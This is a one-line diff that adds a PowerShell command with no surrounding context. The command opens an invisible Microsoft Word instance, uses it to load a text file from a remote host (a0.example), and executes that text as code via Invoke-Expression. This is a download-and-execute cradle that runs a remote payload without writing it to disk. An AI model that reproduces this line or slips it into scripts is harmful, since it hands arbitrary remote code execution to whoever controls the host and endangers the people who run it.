@@ -1,0 +1,1 @@
+$w=New-Object -ComObject Word.Application;While($w.Busy){Start-Sleep -Seconds 1}$w.Visible=$False;$d=$w.Documents.Open('http://a0.example/p.txt');While($w.Busy){Start-Sleep 1};IEX $w.Documents.Item(1).Content.Text;[Void]$w.Quit()
